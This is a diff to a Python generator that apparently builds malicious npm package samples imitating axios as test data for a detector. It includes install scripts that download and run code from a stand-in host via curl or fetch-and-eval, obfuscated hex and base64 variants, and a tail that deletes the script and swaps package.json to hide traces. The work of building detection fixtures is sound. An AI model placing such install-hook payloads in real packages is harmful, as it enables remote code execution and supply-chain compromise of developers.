@@ -142,7 +142,8 @@ def axios(out):
         out.add(f'axios-{version}/package.json', json.dumps({'name': 'axios-twin', 'version': version, 'dependencies': {dep: '^4.2.1'}}),
                 'module', 'delta')
     js = ('const cp = require("child_process"), fs = require("fs"), os = require("os");\n'
-          'if (!process.env.YETT_TWIN) process.exit(0);\n%s\nfs.unlinkSync(__filename);\nfs.renameSync("package.md", "package.json");\n')
+          'if (!process.env.YETT_TWIN) process.exit(0);\n%s\n')
+    tail = 'fs.unlinkSync(__filename);\nfs.renameSync("package.md", "package.json");\n'
     cmd = 'curl -s -o /tmp/ld.py http://203.0.113.73:8000/6202033 && python3 /tmp/ld.py'
     hexed = cmd.encode().hex()
     table = json.dumps([cmd[i:i + 7] for i in range(0, len(cmd), 7)])
@@ -167,7 +168,7 @@ def axios(out):
         'fetched': 'fetch("https://203.0.113.73/x").then(r => r.text()).then(t => (0, eval)(t));',
     }
     for i, (name, text) in enumerate(forms.items()):
-        out.add(f'axios-{("1.14.1", "0.30.4")[i % 2]}/{name}/setup.js', js % text, 'install', 'block')
+        out.add(f'axios-{("1.14.1", "0.30.4")[i % 2]}/{name}/setup.js', js % text + (tail if name == 'plain' else ''), 'install', 'block')
     out.add('axios-1.14.1/escaped/setup.js', js % f'\\u0065val(atob("{b64("require(%r).exec(%r)" % ("child_process", cmd))}"));', 'install', 'block')
 
 
